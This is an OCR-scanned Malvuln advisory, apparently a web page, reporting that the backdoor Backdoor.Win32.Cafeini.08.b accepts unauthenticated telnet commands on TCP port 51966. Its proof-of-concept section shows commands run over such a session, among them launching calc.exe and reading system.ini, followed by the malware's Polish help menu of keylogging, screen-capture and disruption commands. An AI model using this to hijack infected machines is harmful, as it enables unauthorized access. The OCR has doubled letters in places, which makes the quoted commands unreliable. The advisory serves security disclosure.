Backdoor.Win32.Cafeini.08.b / Missing Authentication

us malvuln (US) us
Risk: Medium
Local: No
Remote: Yes

Discovery / credits: Malvuln - (c) 2021 Original source: Contact: Media: Threat: Backdoor.Win32.Cafeini.08.b Vulnerability: Missing Authentication Description: The backdoor is written in Polish and listens on TCP port 51966, anyone who can reach the infected system cantelnet in and execute any commands leading to malware compromise. Type: PE32 MD5: 8225bb6b430d5cdf523c4d0cabbe5793 Vuln ID: MVID-2021-0086 Dropped files: Disclosure: 02/12/2021 Exploit/PoC: 1) Try execute calc.exe we get error in Polish. C:\Windows>EEXXEECC ccaalclc STATUS: nie moge uruchomic programu Translated from polish "I cannot run the program" But given the full path it works.C:\Windows>EEXXEECC cc::\\WWiindnodwowss\\syssytsetemm3322\\ccaallcc.e.exxee STATUS: program uruchomiony Translated "program running" 2) Read files. C:\Users\victim\Desktop>ttyyppee \\WWiinndodwowss\\syssytsetemm..iinini ; for 16-bit app support [386Enh] woafont=dosapp.fon EGA80WOA.FON=EGA80WOA.FON EGA40WOA.FON=EGA40WOA.FON CGA80WOA.FON=CGA80WOA.FON CGA40WOA.FON=CGA40WOA.FON [drivers] wave=mmdrv.dll timer=timer.drv 3) See help menu. C:\>hehlelpp BYE lub LOGOUT lub QUIT lub EXIT - wyjscie DIE - zabij serwer (usun z pamieci) HELPCONF- opis komend sluzacych konfiguracji serwera: AUTOFTPD,AUTOKILL, AUTOMAIL,EMAIL,FTPD,NAME,PASSWD,PORT,PROXY,SMPT. HELPDOS - opis komend w rodzaju MS-DOS/Linux: CAT,CD,CHDIR,CMD,CMDV,COPY, DATE,DEL,DIR,DRIVES,ECHO,ENV,ERASE,INFO,KILL,LS,MAIL,MEMORY,MKDIR, MOVE,PS,RENAME,RMDIR,SET,SYSINFO,TELNET,TIME,TYPE,VER. HELPFUN - opis komend sluzacych zabawie: ANNOY,ANNOYCD,ANNOYMONITOR,CLOSECD, ERRORMSG,EXEC,EXECU,FILLDISK,FILLMEM,FREEZE,GETALLMEM,LOGOFF,MESSAGE,MONITOR,OPEN,OPENCD,OPENMAIL,OPENWWW,QUESTION,READCLIP,SAVER, SCREENSAVER,SHUTDOWN,STOPALL,TASKMANAGER,VOLUME,WRITECLIP. HELPKEY - opis komend sterujacych klawiatura: KEYBOARDBEEP,LOGGEDCLEAR,LOGGEDKEYS,SENDKEYS,SENDLINE HELPMOUSE-opis komend sterujacych myszka i dzwiekiem: AUTOBEEP,BEEP,AUTOSPEAKERBEEP,CURSORFREEZE,CURSORLINE,CURSORPOS,CURSORQUAKE, CLIPLU,CLIPRD,CLIPRESET,CURSORUNFREEZE,MOUSESWAP,STOP,STOPALL. HELPSCR - opis komend sluzacych zabawie z ekranem (desktop): BLACKWHITE, DUMPSCREEN,DUMPSMALLSCREEN,FLYINGBALLS,MATRIX,RESOLUTION, SETWALLPAPER,UNRESOLUTION and SCREEN: BLUR,COLOR,DARKER,INVERT, MOVEX,MOVEY,NORMAL,ROLLX,ROLLY,STOP,XREVERSE,YREVERSE,ZOOM. HELPWIN - opis komend do operacji na oknach (wszystkie zaczynaja sie od WIN): AUTOMESS,FOCUS,HIDE,HIDEALL,HIDESTART,HIDETASKBAR,INVERT,KILL,LIST, KILLMICROSOFT,LISTALL,MAXIMIZE,MESS,MINIMIZE,NAME,PINGPONG,POS,QUAKE, RESIZE,SHOW,SHOWALL,SHOWSTART,SHOWTASKBAR,SHRINK,STOP,TOP,UNTOP. Disclaimer: The information contained within this advisory is supplied "as-is" with no warranties or guarantees of fitness of use or otherwise. Permission is hereby granted for the redistribution of this advisory, provided that it is not altered except by reformatting it, and that due credit is given. Permission is explicitly given forinsertion in vulnerability databases and similar, provided that due credit is given to the author. The author is not responsible for any misuse of the information contained herein and accepts no responsibility for any damage caused by the use or misuse of this information. The author prohibits any malicious use of security related information or exploits by the author or elsewhere. Do not attempt to download Malware samples. The author of this website takes no responsibility for any kind of damages occurring from improper Malware handling or the downloading of ANY Malware mentioned on this website or elsewhere. All content Copyright (c) (TM).

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - requiredfields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }}CET+1
{{ x.comment }}

Copyright 2021,


Back to Top